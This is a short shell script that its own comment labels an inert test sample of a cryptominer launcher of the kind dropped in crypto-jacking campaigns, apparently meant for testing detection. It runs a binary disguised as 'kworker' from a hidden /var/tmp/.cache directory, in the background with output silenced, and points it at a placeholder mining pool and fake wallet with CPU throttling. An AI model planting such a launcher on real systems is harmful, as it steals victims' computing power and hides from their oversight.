#!/bin/sh
# test sample: a miner launcher as dropped by crypto-jacking campaigns (inert).
cd /var/tmp/.cache || exit 0
chmod +x ./kworker
nohup ./kworker -o stratum+tcp://pool.example.invalid:3333 \
    -u 4EXAMPLEWALLETADDRESSNOTREAL -p x -a rx/0 \
    --donate-level 1 --cpu-max-threads-hint 80 -B >/dev/null 2>&1 &
